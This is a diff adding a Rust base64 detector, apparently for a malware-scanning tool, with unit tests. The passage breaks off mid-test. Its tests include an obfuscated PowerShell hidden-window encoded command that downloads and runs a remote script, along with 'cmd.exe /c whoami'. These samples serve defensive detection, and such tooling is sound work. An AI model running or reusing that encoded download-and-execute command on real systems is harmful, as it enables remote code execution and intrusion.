@@ -1,9 +1,1099 @@
-//! Detector stub, to be replaced.
+//! Base64 detector.
+//!
+//! A candidate is a maximal run of base64 characters, standard
+//! (`[A-Za-z0-9+/]`) or URL-safe (`[A-Za-z0-9_-]`) but not both, with at
+//! most two `=` of padding at its end. The run is bounded on both sides by
+//! a byte outside `[A-Za-z0-9+/=_-]`, so a token glued to other alphabet
+//! characters is rejected as a whole. A single `=` followed by more
+//! characters cannot be padding, so it is read as the separator of a
+//! `key=value` pair and the token is the value after it.
+//!
+//! The token is decoded and kept only when the bytes are text (ASCII or
+//! UTF-8), UTF-16LE text, or start with the header of a binary format that
+//! malware commonly carries. That filter, not the character class, is what
+//! rejects identifiers, words and paths that happen to use the alphabet.
 
 use super::Candidate;
-use crate::Limits;
+use crate::{Category, Limits};
 
-/// Pushes every candidate found in `text`.
+/// Minimum length of an unpadded token, in characters.
+const MIN_LEN: usize = 16;
+
+/// Minimum length of a padded token, in characters. Padding is strong
+/// evidence of base64, so a padded token may be shorter (`QUJDREVGRw==`
+/// is `ABCDEFG`).
+const MIN_PADDED_LEN: usize = 12;
+
+/// Minimum number of decoded bytes.
+const MIN_DECODED_LEN: usize = 6;
+
+/// Maximum token length, in characters. Large enough for a small
+/// executable embedded in a script; a longer run is skipped whole.
+const MAX_TOKEN_LEN: usize = 4 << 20;
+
+/// Maximum number of decoded bytes kept as the candidate's payload.
+const MAX_PAYLOAD_LEN: usize = 1 << 20;
+
+/// Minimum number of distinct characters in a token's data part. Fewer
+/// means filler such as `AAAA…` or `++++////`.
+const MIN_DISTINCT_SYMBOLS: u32 = 4;
+
+/// Minimum number of distinct decoded bytes, for the same reason.
+const MIN_DISTINCT_BYTES: usize = 3;
+
+/// Minimum share, in percent, of printable characters in decoded text.
+const MIN_PRINTABLE_PERCENT: usize = 85;
+
+/// Decoded text may hold one control character (other than whitespace)
+/// per this many bytes, so a short token may hold none.
+const CONTROL_ALLOWANCE: usize = 64;
+
+/// Marks a byte outside the candidate class in [`SEXTET`].
+const OUTSIDE: u8 = 0xFF;
+
+/// Marks `=` in [`SEXTET`].
+const PAD: u8 = 0x40;
+
+/// The 6-bit value of each base64 character, in both alphabets, plus
+/// [`PAD`] for `=` and [`OUTSIDE`] for every other byte.
+static SEXTET: [u8; 256] = sextet_table();
+
+const fn sextet_table() -> [u8; 256] {
+    let mut table = [OUTSIDE; 256];
+    let mut i = 0;
+    while i < 26 {
+        table[b'A' as usize + i] = i as u8;
+        table[b'a' as usize + i] = 26 + i as u8;
+        i += 1;
+    }
+    let mut digit = 0;
+    while digit < 10 {
+        table[b'0' as usize + digit] = 52 + digit as u8;
+        digit += 1;
+    }
+    table[b'+' as usize] = 62;
+    table[b'-' as usize] = 62;
+    table[b'/' as usize] = 63;
+    table[b'_' as usize] = 63;
+    table[b'=' as usize] = PAD;
+    table
+}
+
+/// Binary formats recognised by their first bytes, with the kind reported.
+/// `MZ` is not here: it is only two bytes, so it is tried after the text
+/// checks (see [`classify`]).
+const MAGIC: &[(&[u8], &str)] = &[
+    // ZIP local file header, which also starts JAR, APK and Office Open
+    // XML files.
+    (b"PK\x03\x04", "zip"),
+    (b"%PDF-", "pdf"),
+    // gzip member with deflate, the only method RFC 1952 defines.
+    (b"\x1f\x8b\x08", "gzip"),
+    (b"\x7fELF", "elf"),
+    // OLE compound file: legacy Office documents (macro droppers), MSI.
+    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "ole"),
+    // RAR 4 and RAR 5 share this prefix.
+    (b"Rar!\x1a\x07", "rar"),
+    (b"7z\xbc\xaf\x27\x1c", "7z"),
+    // Microsoft cabinet, used by droppers and in Office exploit chains.
+    (b"MSCF\0\0\0\0", "cab"),
+    // Mach-O, 32-bit and 64-bit little-endian.
+    (b"\xce\xfa\xed\xfe", "macho"),
+    (b"\xcf\xfa\xed\xfe", "macho"),
+];
+
+/// Pushes every base64 token in `text` that decodes to text or a known
+/// binary format.
 pub(crate) fn find(text: &[u8], limits: &Limits, out: &mut Vec<Candidate>) {
-    let _ = (text, limits, out);
+    // Tokens are bounded by `MAX_TOKEN_LEN` instead of `max_token_len`,
+    // because an embedded executable is far longer than any URL or path.
+    let _ = limits;
+
+    // TODO: join lines of wrapped base64 (MIME, PEM); each line is judged
+    // alone, so a wrapped executable yields only its first line as `pe`.
+
+    // One reused buffer stores each decoded token while it is classified.
+    let mut decoded = Vec::new();
+    for_each_run(text, |start, end| {
+        if end - start > MAX_TOKEN_LEN {
+            return;
+        }
+        if let Some(run) = text.get(start..end) {
+            examine_run(run, start, &mut decoded, out);
+        }
+    });
+}
+
+/// Calls `visit` with the bounds of every maximal run of candidate bytes
+/// at least [`MIN_PADDED_LEN`] long, in order.
+///
+/// The text is read in blocks of 64 bytes, each turned into a bit mask of
+/// class membership without branching. Runs inside a block are walked one
+/// by one only when the mask holds a long enough stretch of ones, which in
+/// prose is rare, so most blocks cost one mask and a few bit operations.
+fn for_each_run(text: &[u8], mut visit: impl FnMut(usize, usize)) {
+    // Start of the run that reaches the end of the previous block.
+    let mut open: Option<usize> = None;
+    for (index, block) in text.chunks(BLOCK).enumerate() {
+        let base = index * BLOCK;
+        let mask = class_mask(block);
+        if mask == u64::MAX {
+            open = open.or(Some(base));
+            continue;
+        }
+        let mut rest = mask;
+        if let Some(start) = open.take() {
+            // The low ones end the open run.
+            let low = mask.trailing_ones() as usize;
+            visit_long(start, base + low, &mut visit);
+            rest &= !low_bits(low);
+        }
+        visit_block_runs(rest, base, &mut visit);
+        let high = mask.leading_ones() as usize;
+        if high > 0 {
+            open = Some(base + BLOCK - high);
+        }
+    }
+    if let Some(start) = open {
+        visit_long(start, text.len(), &mut visit);
+    }
+}
+
+/// Bytes per block in [`for_each_run`], one per bit of a `u64`.
+const BLOCK: usize = 64;
+
+/// Returns bit `i` set when byte `i` of `block` is in the candidate class.
+/// Bytes past the end of a short block read as outside.
+fn class_mask(block: &[u8]) -> u64 {
+    let mut padded = [0u8; BLOCK];
+    let full = match <&[u8; BLOCK]>::try_from(block) {
+        Ok(full) => full,
+        Err(_) => {
+            for (slot, &byte) in padded.iter_mut().zip(block) {
+                *slot = byte;
+            }
+            &padded
+        }
+    };
+    let mut mask = 0;
+    for (i, group) in full.chunks_exact(8).enumerate() {
+        let word = <[u8; 8]>::try_from(group).unwrap_or_default();
+        mask |= class_bits(u64::from_le_bytes(word)) << (8 * i);
+    }
+    mask
+}
+
+const LANES: u64 = 0x0101_0101_0101_0101;
+const HIGH_BITS: u64 = 0x8080_8080_8080_8080;
+
+/// Tests the eight bytes of `word` for class membership at once and
+/// returns bit `i` set when byte `i` is in the class. Each test leaves its
+/// result in the high bit of each byte lane. In a benchmark on x86-64
+/// this ran about twice as fast as a table lookup per byte.
+fn class_bits(word: u64) -> u64 {
+    // Clearing the high bits keeps every lane below 0x80, so the sums
+    // below never carry into the next lane. Bytes >= 0x80 are dropped at
+    // the end.
+    let low = word & !HIGH_BITS;
+    let letters = lanes_in_range(low | (LANES * 0x20), b'a', b'z');
+    let digits = lanes_in_range(low, b'0', b'9');
+    // `+`, `-` and `/` are the odd bytes in `+`..=`/`, while `,` and `.`
+    // are even.
+    let signs = lanes_in_range(low, b'+', b'/') & low << 7;
+    let others = lanes_equal(low, b'=') | lanes_equal(low, b'_');
+    let flags = (letters | digits | signs | others) & !word & HIGH_BITS;
+    // The multiplication gathers the high bit of lane `i` into bit 56 + i.
+    (flags >> 7).wrapping_mul(0x0102_0408_1020_4080) >> 56
+}
+
+/// Sets the high bit of each lane of `low` (lanes below 0x80) that lies
+/// in `lo..=hi`.
+fn lanes_in_range(low: u64, lo: u8, hi: u8) -> u64 {
+    let at_least_lo = low + LANES * u64::from(0x80 - lo);
+    let above_hi = low + LANES * u64::from(0x7F - hi);
+    at_least_lo & !above_hi
+}
+
+/// Sets the high bit of each lane of `low` (lanes below 0x80) equal to
+/// `byte`.
+fn lanes_equal(low: u64, byte: u8) -> u64 {
+    !((low ^ (LANES * u64::from(byte))) + LANES * 0x7F)
+}
+
+fn low_bits(count: usize) -> u64 {
+    u64::MAX.checked_shr(BLOCK.saturating_sub(count) as u32).unwrap_or(0)
+}
+
+/// Returns bit `i` set when bits `i..i + MIN_PADDED_LEN` of `mask` are
+/// all set, so the lowest set bit of each group starts a long run.
+fn long_run_starts(mask: u64) -> u64 {
+    const _: () = assert!(MIN_PADDED_LEN == 12);
+    // Bit `i` of `ones_k` is set when bits `i..i + k` of `mask` all are.
+    let ones_2 = mask & mask >> 1;
+    let ones_4 = ones_2 & ones_2 >> 2;
+    let ones_8 = ones_4 & ones_4 >> 4;
+    ones_8 & ones_4 >> 8
+}
+
+/// Visits the long runs in one block's `mask`, except one that reaches
+/// the top bit and so continues into the next block.
+fn visit_block_runs(
+    mask: u64,
+    base: usize,
+    visit: &mut impl FnMut(usize, usize),
+) {
+    let mut starts = long_run_starts(mask);
+    while starts != 0 {
+        let start = starts.trailing_zeros() as usize;
+        let len = (mask >> start).trailing_ones() as usize;
+        let end = start + len;
+        if end >= BLOCK {
+            return;
+        }
+        visit(base + start, base + end);
+        starts &= !low_bits(end);
+    }
+}
+
+fn visit_long(start: usize, end: usize, visit: &mut impl FnMut(usize, usize)) {
+    if end - start >= MIN_PADDED_LEN {
+        visit(start, end);
+    }
+}
+
+/// The start and padding of the token in a run.
+struct Token {
+    /// Offset of the token in its run.
+    offset: usize,
+    /// Number of trailing `=`.
+    pad: usize,
+}
+
+/// Finds the token in a run: the whole run, or the value after the last
+/// single `=` when the run is a `key=value` pair. Returns `None` when `=`
+/// sits where neither padding nor a separator can be, as in
+/// `xxxSGVsbG8sIFdvcmxkIQ==yyy`.
+fn split_token(run: &[u8]) -> Option<Token> {
+    let mut token = Token { offset: 0, pad: 0 };
+    // `end` is one past the last `=` of the current group of `=`.
+    let mut group: Option<(usize, usize)> = None;
+    for at in memchr::memchr_iter(b'=', run) {
+        match group {
+            Some((first, end)) if end == at => group = Some((first, at + 1)),
+            _ => {
+                close_group(group, &mut token)?;
+                group = Some((at, at + 1));
+            }
+        }
+    }
+    match group {
+        Some((first, end)) if end == run.len() => {
+            token.pad = end - first;
+            (token.pad <= 2).then_some(token)
+        }
+        _ => {
+            close_group(group, &mut token)?;
+            Some(token)
+        }
+    }
+}
+
+/// Accepts a group of `=` followed by more characters when it is a single
+/// `=` separating a key from the token, which then starts after it.
+fn close_group(
+    group: Option<(usize, usize)>,
+    token: &mut Token,
+) -> Option<()> {
+    match group {
+        None => Some(()),
+        Some((first, end)) if end - first == 1 => {
+            token.offset = end;
+            Some(())
+        }
+        Some(_) => None,
+    }
+}
+
+/// Reports whether `data` looks like filler or a hex string rather than
+/// base64: hex digits (and `-`) only, as in a hash, a number or a GUID, or
+/// fewer than [`MIN_DISTINCT_SYMBOLS`] distinct characters.
+fn is_hex_or_filler(data: &[u8]) -> bool {
+    if is_hex_or_dash(data) {
+        return true;
+    }
+    let mut seen = 0u128;
+    for &byte in data {
+        seen |= 1u128 << (byte & 0x7F);
+        if seen.count_ones() >= MIN_DISTINCT_SYMBOLS {
+            return false;
+        }
+    }
+    true
+}
+
+/// Reports whether `data` contains only hex digits and `-`. It tests eight
+/// bytes at a time because hashes fill IOC lists.
+fn is_hex_or_dash(data: &[u8]) -> bool {
+    let mut words = data.chunks_exact(8);
+    for group in &mut words {
+        let word =
+            u64::from_le_bytes(<[u8; 8]>::try_from(group).unwrap_or_default());
+        let low = word & !HIGH_BITS;
+        let hex = lanes_in_range(low, b'0', b'9')
+            | lanes_in_range(low | (LANES * 0x20), b'a', b'f')
+            | lanes_equal(low, b'-');
+        if hex & !word & HIGH_BITS != HIGH_BITS {
+            return false;
+        }
+    }
+    words.remainder().iter().all(|b| b.is_ascii_hexdigit() || *b == b'-')
+}
+
+/// Checks the token in `run` (which starts at `run_start` in the text) and
+/// pushes it when its decoded bytes pass [`classify`].
+fn examine_run(
+    run: &[u8],
+    run_start: usize,
+    decoded: &mut Vec<u8>,
+    out: &mut Vec<Candidate>,
+) {
+    let Some(token) = split_token(run) else {
+        return;
+    };
+    let Some(chars) = run.get(token.offset..) else {
+        return;
+    };
+    let data_len = chars.len() - token.pad;
+    let min_len = if token.pad > 0 { MIN_PADDED_LEN } else { MIN_LEN };
+    // A data length of 1 mod 4 leaves 6 bits, less than one byte.
+    if chars.len() < min_len || data_len % 4 == 1 {
+        return;
+    }
+    if token.pad > 0 && chars.len() % 4 != 0 {
+        return;
+    }
+    let Some(data) = chars.get(..data_len) else {
+        return;
+    };
+    let standard = memchr::memchr2(b'+', b'/', data).is_some();
+    if standard && memchr::memchr2(b'-', b'_', data).is_some() {
+        return;
+    }
+    if is_hex_or_filler(data) {
+        return;
+    }
+
+    decode_into(data, decoded);
+    let Some(kind) = classify(decoded) else {
+        return;
+    };
+    let start = run_start + token.offset;
+    let value = String::from_utf8_lossy(chars).into_owned();
+    let keep = decoded.len().min(MAX_PAYLOAD_LEN);
+    let mut candidate =
+        Candidate::new(Category::Base64, start, start + chars.len(), value)
+            .with_kind(kind);
+    candidate.payload = decoded.get(..keep).map(<[u8]>::to_vec);
+    out.push(candidate);
+}
+
+/// Decodes `data`, base64 characters without padding, into `out`. Both
+/// alphabets are accepted because the caller rejects tokens that mix them.
+fn decode_into(data: &[u8], out: &mut Vec<u8>) {
+    out.clear();
+    out.reserve(data.len() / 4 * 3 + 2);
+    let mut quads = data.chunks_exact(4);
+    for quad in &mut quads {
+        let bits = pack_sextets(quad);
+        let [_, a, b, c] = bits.to_be_bytes();
+        out.extend_from_slice(&[a, b, c]);
+    }
+    let rest = quads.remainder();
+    if rest.len() >= 2 {
+        // Left-align the 12 or 18 bits as in a full group of four.
+        let bits = pack_sextets(rest) << (6 * (4 - rest.len()));
+        let [_, a, b, _] = bits.to_be_bytes();
+        out.push(a);
+        if rest.len() == 3 {
+            out.push(b);
+        }
+    }
+}
+
+/// Packs up to four base64 characters into the low bits of a `u32`.
+fn pack_sextets(chars: &[u8]) -> u32 {
+    chars.iter().fold(0, |bits, &c| {
+        bits << 6 | u32::from(SEXTET[usize::from(c)] & 0x3F)
+    })
+}
+
+/// Returns the kind of decoded bytes worth reporting, or `None` for
+/// binary noise.
+fn classify(bytes: &[u8]) -> Option<&'static str> {
+    if bytes.len() < MIN_DECODED_LEN || !has_distinct_bytes(bytes) {
+        return None;
+    }
+    let magic = MAGIC.iter().find(|(magic, _)| bytes.starts_with(magic));
+    if let Some(&(_, kind)) = magic {
+        return Some(kind);
+    }
+    if is_text(bytes) {
+        return Some("text");
+    }
+    if is_utf16le_text(bytes) {
+        return Some("utf16le");
+    }
+    // A DOS header (`TVqQ…` in base64) that is not also readable text.
+    if bytes.starts_with(b"MZ") {
+        return Some("pe");
+    }
+    None
+}
+
+/// Reports whether `bytes` contains at least [`MIN_DISTINCT_BYTES`]
+/// distinct values.
+fn has_distinct_bytes(bytes: &[u8]) -> bool {
+    let mut seen = [false; 256];
+    let mut distinct = 0;
+    for &byte in bytes {
+        let slot = &mut seen[usize::from(byte)];
+        if !*slot {
+            *slot = true;
+            distinct += 1;
+            if distinct >= MIN_DISTINCT_BYTES {
+                return true;
+            }
+        }
+    }
+    false
+}
+
+fn is_printable_ascii(byte: u8) -> bool {
+    matches!(byte, b' '..=b'~' | b'\t' | b'\n' | b'\r' | b'\x0B' | b'\x0C')
+}
+
+fn mostly(part: usize, whole: usize) -> bool {
+    part.saturating_mul(100) >= whole.saturating_mul(MIN_PRINTABLE_PERCENT)
+}
+
+/// Reports whether `bytes` reads as text: mostly printable ASCII, or valid
+/// UTF-8 of mostly printable characters, with at least one letter and
+/// hardly any control characters. Control bytes are what give away
+/// binary structures with embedded strings, such as a line of a PEM
+/// certificate (`2\x06\x03U\x04\x0b\x13+CloudFlare Origin…`).
+fn is_text(bytes: &[u8]) -> bool {
+    // A C string is often encoded with its terminating NUL.
+    let end = bytes.iter().rposition(|&b| b != 0).map_or(0, |i| i + 1);
+    let body = bytes.get(..end).unwrap_or(bytes);
+
+    let mut controls = 0;
+    let mut printable = 0;
+    let mut letter = false;
+    for &byte in body {
+        controls += usize::from(is_control_byte(byte));
+        printable += usize::from(is_printable_ascii(byte));
+        letter |= byte.is_ascii_alphabetic();
+    }
+    if controls.saturating_mul(CONTROL_ALLOWANCE) > body.len() {
+        return false;
+    }
+    if letter && mostly(printable, body.len()) {
+        return true;
+    }
+    if body.is_ascii() {
+        return false;
+    }
+
+    let Ok(text) = std::str::from_utf8(body) else {
+        return false;
+    };
+    let mut chars = 0;
+    let mut printable = 0;
+    let mut letter = false;
+    for c in text.chars() {
+        chars += 1;
+        if !c.is_control() || c.is_whitespace() {
+            printable += 1;
+        }
+        letter |= c.is_alphabetic();
+    }
+    letter && mostly(printable, chars)
+}
+
+/// Reports whether `byte` is an ASCII control character other than
+/// whitespace.
+fn is_control_byte(byte: u8) -> bool {
+    byte.is_ascii_control() && !is_printable_ascii(byte)
+}
+
+/// Reports whether `bytes` reads as UTF-16LE text, as PowerShell's
+/// `-EncodedCommand` takes: an optional byte order mark, then mostly
+/// printable ASCII characters (odd bytes NUL, even bytes printable) with
+/// at least one letter, and no unpaired surrogate.
+fn is_utf16le_text(bytes: &[u8]) -> bool {
+    let body = bytes.strip_prefix(b"\xFF\xFE").unwrap_or(bytes);
+    if body.len() % 2 != 0 || body.len() < MIN_DECODED_LEN {
+        return false;
+    }
+    let units = body.chunks_exact(2).map(|pair| match *pair {
+        [low, high] => u16::from_le_bytes([low, high]),
+        _ => 0,
+    });
+    let mut total = 0;
+    let mut ascii = 0;
+    let mut letter = false;
+    for unit in char::decode_utf16(units) {
+        let Ok(c) = unit else {
+            return false;
+        };
+        total += 1;
+        if c.is_ascii() && is_printable_ascii(c as u8) {
+            ascii += 1;
+            letter |= c.is_ascii_alphabetic();
+        }
+    }
+    letter && mostly(ascii, total)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use proptest::prelude::*;
+
+    fn in_class(byte: u8) -> bool {
+        SEXTET[usize::from(byte)] != OUTSIDE
+    }
+
+    const STANDARD: &[u8; 64] =
+        b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+
+    /// Encodes `bytes` in the standard alphabet with padding.
+    fn encode(bytes: &[u8]) -> String {
+        let mut out = String::new();
+        for group in bytes.chunks(3) {
+            let mut bits = 0u32;
+            for (i, &b) in group.iter().enumerate() {
+                bits |= u32::from(b) << (16 - 8 * i);
+            }
+            for i in 0..4 {
+                if i <= group.len() {
+                    let sextet = (bits >> (18 - 6 * i)) & 0x3F;
+                    out.push(char::from(STANDARD[sextet as usize]));
+                } else {
+                    out.push('=');
+                }
+            }
+        }
+        out
+    }
+
+    fn candidates(text: &[u8]) -> Vec<Candidate> {
+        let mut out = Vec::new();
+        find(text, &Limits::default(), &mut out);
+        out
+    }
+
+    fn values(text: &str) -> Vec<String> {
+        candidates(text.as_bytes()).into_iter().map(|c| c.value).collect()
+    }
+
+    fn utf16le(text: &str) -> Vec<u8> {
+        text.encode_utf16().flat_map(u16::to_le_bytes).collect()
+    }
+
+    #[test]
+    fn delimited_text_tokens_accepted() {
+        let cases = [
+            (
+                "[QmFzZTY0IGlzIG5vdCBqdXN0IGZvciBiaW5hcnk=]",
+                "QmFzZTY0IGlzIG5vdCBqdXN0IGZvciBiaW5hcnk=",
+                "Base64 is not just for binary",
+            ),
+            (
+                "token:ZXhhbXBsZS11cmwtc2FmZS1iYXNlNjQ",
+                "ZXhhbXBsZS11cmwtc2FmZS1iYXNlNjQ",
+                "example-url-safe-base64",
+            ),
+            ("short:QUJDREVGRw==", "QUJDREVGRw==", "ABCDEFG"),
+            (
+                "res YmFzZTY0LXJzcmMtc3RyaW5n end",
+                "YmFzZTY0LXJzcmMtc3RyaW5n",
+                "base64-rsrc-string",
+            ),
+            (
+                "x VGhpcyBpcyBhIHJlYWwgdGV4dCBJREMu y",
+                "VGhpcyBpcyBhIHJlYWwgdGV4dCBJREMu",
+                "This is a real text IDC.",
+            ),
+            (
+                "Authorization: Basic dXNlcjpwYXNzd29yZA==\r\n",
+                "dXNlcjpwYXNzd29yZA==",
+                "user:password",
+            ),
+            (
+                r#"{"blob":"eyJ1c2VyIjoiYWRtaW4ifQ=="}"#,
+                "eyJ1c2VyIjoiYWRtaW4ifQ==",
+                r#"{"user":"admin"}"#,
+            ),
+        ];
+        for (input, token, decoded) in cases {
+            let found = candidates(input.as_bytes());
+            assert_eq!(found.len(), 1, "{input}");
+            let candidate = &found[0];
+            assert_eq!(candidate.value, token, "{input}");
+            assert_eq!(candidate.kind, Some("text"), "{input}");
+            assert_eq!(
+                candidate.payload.as_deref(),
+                Some(decoded.as_bytes()),
+                "{input}"
+            );
+            let start = input.find(token).unwrap();
+            assert_eq!(candidate.start, start, "{input}");
+            assert_eq!(candidate.end, start + token.len(), "{input}");
+        }
+    }
+
+    #[test]
+    fn adversarial_blob_tokens_rejected() {
+        let cases = [
+            "prefix-SGVsbG8sIFdvcmxkIQ==-suffix",
+            "xxxxVXNlci1hZ2VudDogQmFzZTY0LXRlc3Q=yyyy",
+            "tiny:YWJjZA==",
+            "bin1://///w8PDw8PDw8PDw8PDw8PDw8PDw8PDw8=",
+            "bin2:AAAAAAAA8P///wD////A////AP///wD///8=",
+            "noalpha:MTIzNDU2Nzg5MDA5ODc2NTQzMjEw",
+            "wrapped_token=xxxSGVsbG8sIFdvcmxkIQ==yyy",
+            "noise:++++////++++////++++////",
+            "dXRmMTYtTEU6AEgAZQBsAGwAbwAhAA==",
+            "AQIDBAUGBwgJCgsMDQ4P",
+            "MTIzNDU2Nzg5MDEyMzQ1Ng==",
+        ];
+        for input in cases {
+            assert_eq!(values(input), Vec::<String>::new(), "{input}");
+        }
+    }
+
+    #[test]
+    fn two_tokens_on_one_line() {
+        assert_eq!(
+            values("aGVsbG8gd29ybGQ= Zm9vYmFyYmF6cXV4"),
+            ["aGVsbG8gd29ybGQ=", "Zm9vYmFyYmF6cXV4"]
+        );
+    }
+
+    #[test]
+    fn powershell_encoded_command_is_utf16le() {
+        let input = "powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3\
+            AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEA\
+            G8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwAD\
+            MALgAwAC4AMQAxADMALgA2ADYALwBhAC4AcABzADEAJwApAA==";
+        let found = candidates(input.as_bytes());
+        assert_eq!(found.len(), 1);
+        assert_eq!(found[0].kind, Some("utf16le"));
+        assert_eq!(found[0].end, input.len());
+        assert!(found[0].value.starts_with("SQBFAFgA"));
+        let command = "IEX (New-Object Net.WebClient).DownloadString(\
+            'http://203.0.113.66/a.ps1')";
+        assert_eq!(found[0].payload, Some(utf16le(command)));
+    }
+
+    #[test]
+    fn utf16le_with_byte_order_mark() {
+        let mut payload = vec![0xFF, 0xFE];
+        payload.extend(utf16le("Start-Process calc.exe"));
+        let found = candidates(encode(&payload).as_bytes());
+        assert_eq!(found.len(), 1);
+        assert_eq!(found[0].kind, Some("utf16le"));
+    }
+
+    #[test]
+    fn utf16le_with_unpaired_surrogate_rejected() {
+        let mut payload = utf16le("Invoke-Expression $x");
+        payload.extend([0x00, 0xD8]);
+        assert!(candidates(encode(&payload).as_bytes()).is_empty());
+    }
+
+    #[test]
+    fn utf8_text_accepted() {
+        let text = "Привет, мир! Это проверка.";
+        let found = candidates(encode(text.as_bytes()).as_bytes());
+        assert_eq!(found.len(), 1);
+        assert_eq!(found[0].kind, Some("text"));
+        assert_eq!(found[0].payload.as_deref(), Some(text.as_bytes()));
+    }
+
+    #[test]
+    fn binary_headers_set_kind() {
+        let cases: [(&[u8], &str); 12] = [
+            (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff", "pe"),
+            (b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00", "zip"),
+            (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", "pdf"),
+            (b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03\xcb\x48", "gzip"),
+            (b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00", "elf"),
+            (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x00\x00\x00\x00", "ole"),
+            (b"Rar!\x1a\x07\x01\x00\x33\x92\xb5\xe5", "rar"),
+            (b"7z\xbc\xaf\x27\x1c\x00\x04\x8d\x9b\xd5\x0f", "7z"),
+            (b"MSCF\0\0\0\0\x9c\x01\x00\x00\x00\x00", "cab"),
+            (b"\xce\xfa\xed\xfe\x07\x00\x00\x00\x03\x00", "macho"),
+            (b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00", "macho"),
+            (b"MZ is a text that starts like a PE", "text"),
+        ];
+        for (payload, kind) in cases {
+            let token = encode(payload);
+            let found = candidates(format!("x {token} y").as_bytes());
+            assert_eq!(found.len(), 1, "{kind}: {token}");
+            assert_eq!(found[0].kind, Some(kind), "{token}");
+            assert_eq!(found[0].payload.as_deref(), Some(payload), "{token}");
+        }
+    }
+
+    #[test]
+    fn pe_header_signature_accepted() {
+        let found = candidates(b"sig TVqQAAMAAAAEAAAA//8AALgAAAAAAAAA");
+        assert_eq!(found.len(), 1);
+        assert_eq!(found[0].kind, Some("pe"));
+    }
+
+    #[test]
+    fn binary_noise_rejected() {
+        let noise: Vec<u8> = (0u32..48)
+            .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
+            .collect();
+        assert!(candidates(encode(&noise).as_bytes()).is_empty());
+        let png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00";
+        assert!(candidates(encode(png).as_bytes()).is_empty());
+    }
+
+    #[test]
+    fn identifiers_and_words_rejected() {
+        let cases = [
+            "GetProcAddress",
+            "SetUnhandledExceptionFilter",
+            "CreateRemoteThreadEx",
+            "VirtualAllocExNuma",
+            "RtlDecompressBuffer",
+            "IsDebuggerPresent",
+            "MicrosoftWindowsDefender",
+            "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/",
+            "some_snake_case_identifier_name",
+            "internationalisation",
+        ];
+        for input in cases {
+            assert_eq!(values(input), Vec::<String>::new(), "{input}");
+        }
+    }
+
+    #[test]
+    fn hex_runs_rejected() {
+        let cases = [
+            "d41d8cd98f00b204e9800998ecf8427e",
+            "da39a3ee5e6b4b0d3255bfef95601890afd80709",
+            "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855",
+            "123e4567-e89b-12d3-a456-426614174000",
+            "1234567890123456",
+            // Hex that happens to decode to printable text (`kM4kM5…`).
+            "a000a001a002a003",
+            "a000a001a002a003a004a005a006a007",
+        ];
+        for input in cases {
+            assert_eq!(values(input), Vec::<String>::new(), "{input}");
+        }
+    }
+
+    #[test]
+    fn hex_test_matches_byte_test() {
+        for byte in 0..=255u8 {
+            let expected = byte.is_ascii_hexdigit() || byte == b'-';
+            for at in 0..9 {
+                let mut data = [b'a'; 9];
+                data[at] = byte;
+                assert_eq!(is_hex_or_dash(&data), expected, "{byte:#x}");
+            }
+        }
+    }
+
+    #[test]
+    fn repeated_filler_rejected() {
+        let cases = [
+            "A".repeat(64),
+            "AAAA".repeat(8) + "==",
+            "++++////".repeat(4),
+            encode(b"AAAAAAAAAAAAAAAAAAAAAAAA"),
+            encode(b"abababababababababab"),
+        ];
+        for input in cases {
+            assert_eq!(values(&input), Vec::<String>::new(), "{input}");
+        }
+    }
+
+    #[test]
+    fn unix_paths_rejected() {
+        let cases = [
+            "/usr/local/bin/something",
+            "/etc/systemd/system/evilservice",
+            "/var/lib/docker/overlay2/abcdef",
+            "/home/user/Downloads/payload",
+            "/tmp/ssh-XXXXabcd/agent",
+        ];
+        for input in cases {
+            assert_eq!(values(input), Vec::<String>::new(), "{input}");
+        }
+    }
+
+    #[test]
+    fn url_path_segment_not_salvaged() {
+        let input = "Redirector https://example.com/k265/aHR0cHM6Ly9jZG4uZXhh\
+            bXBsZS5uZXQvcw served the kit";
+        assert_eq!(values(input), Vec::<String>::new());
+    }
+
+    #[test]
+    fn pem_body_lines_rejected() {
+        // The second and third lines decode to DER around readable names
+        // (`CloudFlare Origin SSL Certificate Author…`).
+        let input = "-----BEGIN CERTIFICATE-----\n\
+            MIIEojCCA4qgAwIBAgIUVk8uE4ra2ccCyJEZ+HZqXBJyw84wDQYJKoZIhvcNAQEL\n\
+            MgYDVQQLEytDbG91ZEZsYXJlIE9yaWdpbiBTU0wgQ2VydGlmaWNhdGUgQXV0aG9y\n\
+            dWRGbGFyZSwgSW5jLjEdMBsGA1UECxMUQ2xvdWRGbGFyZSBPcmlnaW4gQ0ExJjAk\n\
+            -----END CERTIFICATE-----\n";
+        assert_eq!(values(input), Vec::<String>::new());
+    }
+
+    #[test]
+    fn control_characters_limit_text() {
+        const TEXT_64: &[u8] =
+            b"The quick brown fox jumps over the lazy dog, again and again.  ";
+        let cases: [(&[u8], bool); 6] = [
+            (b"cmd.exe /c whoami\0", true),
+            (b"cmd.exe /c whoami\0\0", true),
+            (b"cmd.exe\x01/c whoami", false),
+            (b"\x1b[31mred text\x1b[0m and more", false),
+            (&[TEXT_64, b"\x07"].concat(), true),
+            (&[TEXT_64, b"\x07\x07"].concat(), false),
+        ];
+        for (payload, accepted) in cases {
+            let found = candidates(encode(payload).as_bytes());
+            assert_eq!(found.len() == 1, accepted, "{payload:?}");
+        }
+    }
+
+    #[test]
+    fn key_value_separator_splits_token() {
+        let cases = [
